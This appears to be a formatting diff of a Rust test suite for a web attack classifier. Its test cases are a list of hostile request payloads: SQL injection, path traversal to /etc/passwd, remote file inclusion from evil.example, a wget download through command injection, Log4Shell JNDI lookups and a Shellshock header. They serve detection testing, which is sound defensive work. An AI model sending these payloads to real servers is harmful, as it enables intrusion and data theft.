@@ -17,14 +17,23 @@ fn attacks_are_recognised() {
         ("/products?id=1%27%20OR%20%271%27%3D%271", Sqli),
         ("/products?id=1'", Sqli),
         ("/products?id=1%2527", Sqli),
-        ("/p?id=-1%20UNION%20ALL%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--", Sqli),
-        ("/p?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)", Sqli),
+        (
+            "/p?id=-1%20UNION%20ALL%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--",
+            Sqli,
+        ),
+        (
+            "/p?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)",
+            Sqli,
+        ),
         ("/p?id=1';WAITFOR%20DELAY%20'0:0:5'--", Sqli),
         ("/p?id=1%20OR%201%3D1--", Sqli),
         ("/p?id=admin'--", Sqli),
         ("/p?id=1;DROP%20TABLE%20users--", Sqli),
         ("/p?id=1%20ORDER%20BY%2010--", Sqli),
-        ("/p?id=1%20AND%203810=CAST((CHR(113)||CHR(112))%20AS%20NUMERIC)", Sqli),
+        (
+            "/p?id=1%20AND%203810=CAST((CHR(113)||CHR(112))%20AS%20NUMERIC)",
+            Sqli,
+        ),
         ("/p?id=x%27%20or%20benchmark(10000000,MD5(1))%23", Sqli),
         ("/p?id=1)%20AND%201=1%20AND%20(1=1", Sqli),
         ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", Xss),
@@ -35,12 +44,21 @@ fn attacks_are_recognised() {
         ("/download?file=..%252f..%252fetc%252fpasswd", PathTraversal),
         ("/static/..%c0%af..%c0%afetc/passwd", PathTraversal),
         ("/x?f=..\\..\\..\\windows\\win.ini", PathTraversal),
-        ("/page?include=php://filter/convert.base64-encode/resource=index.php", FileInclusion),
-        ("/index.php?page=http://evil.example/shell.txt?", FileInclusion),
+        (
+            "/page?include=php://filter/convert.base64-encode/resource=index.php",
+            FileInclusion,
+        ),
+        (
+            "/index.php?page=http://evil.example/shell.txt?",
+            FileInclusion,
+        ),
         ("/cgi?host=127.0.0.1;cat%20/etc/passwd", CommandInjection),
         ("/ping?ip=1.1.1.1|id", CommandInjection),
         ("/x?c=$(wget%20http://x.example/a.sh)", CommandInjection),
-        ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5", CommandInjection),
+        (
+            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
+            CommandInjection,
+        ),
         ("/?x=${jndi:ldap://x.example/a}", Jndi),
         ("/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", Jndi),
         ("/.env", SensitiveFile),
@@ -53,7 +71,10 @@ fn attacks_are_recognised() {
         ("/www.zip", SensitiveFile),
         ("/phpmyadmin/index.php", AdminProbe),
         ("/wp-includes/wlwmanifest.xml", AdminProbe),
-        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", AdminProbe),
+        (
+            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+            AdminProbe,
+        ),
         ("/?XDEBUG_SESSION_START=phpstorm", AdminProbe),
         ("/uploads/shell.php", Webshell),
         ("/wp-content/uploads/2024/03/x.php", Webshell),
@@ -61,7 +82,9 @@ fn attacks_are_recognised() {
     ];
     let c = WebClassifier::new();
     for (uri, want) in cases {
-        let got = c.classify(b"GET", uri.as_bytes(), b"Mozilla/5.0", b"").map(|h| h.kind);
+        let got = c
+            .classify(b"GET", uri.as_bytes(), b"Mozilla/5.0", b"")
+            .map(|h| h.kind);
         assert_eq!(got, Some(*want), "{uri}");
     }
 }
@@ -100,16 +123,50 @@ fn benign_requests_are_not_attacks() {
 #[test]
 fn scanners_and_header_attacks() {
     let c = WebClassifier::new();
-    let s = c.classify(b"GET", b"/", b"sqlmap/1.7.2#stable (https://sqlmap.org)", b"").unwrap();
+    let s = c
+        .classify(
+            b"GET",
+            b"/",
+            b"sqlmap/1.7.2#stable (https://sqlmap.org)",
+            b"",
+        )
+        .unwrap();
     assert_eq!(s.kind, AttackKind::Scanner);
-    let n = c.classify(b"GET", b"/", b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", b"").unwrap();
+    let n = c
+        .classify(
+            b"GET",
+            b"/",
+            b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
+            b"",
+        )
+        .unwrap();
     assert_eq!(n.kind, AttackKind::Scanner);
-    let j = c.classify(b"GET", b"/", b"${jndi:ldap://198.51.100.1:1389/a}", b"").unwrap();
+    let j = c
+        .classify(b"GET", b"/", b"${jndi:ldap://198.51.100.1:1389/a}", b"")
+        .unwrap();
     assert_eq!(j.kind, AttackKind::Jndi);
-    let sh = c.classify(b"GET", b"/cgi-bin/status", b"() { :; }; /bin/bash -c 'id'", b"").unwrap();
+    let sh = c
+        .classify(
+            b"GET",
+            b"/cgi-bin/status",
+            b"() { :; }; /bin/bash -c 'id'",
+            b"",
+        )
+        .unwrap();
     assert_eq!(sh.kind, AttackKind::CommandInjection);
-    assert!(c.classify(b"GET", b"/", b"python-requests/2.31.0", b"").is_none());
-    assert!(c.classify(b"GET", b"/", b"Mozilla/5.0 (compatible; Googlebot/2.1)", b"").is_none());
+    assert!(
+        c.classify(b"GET", b"/", b"python-requests/2.31.0", b"")
+            .is_none()
+    );
+    assert!(
+        c.classify(
+            b"GET",
+            b"/",
+            b"Mozilla/5.0 (compatible; Googlebot/2.1)",
+            b""
+        )
+        .is_none()
+    );
 }
 
 proptest::proptest! {
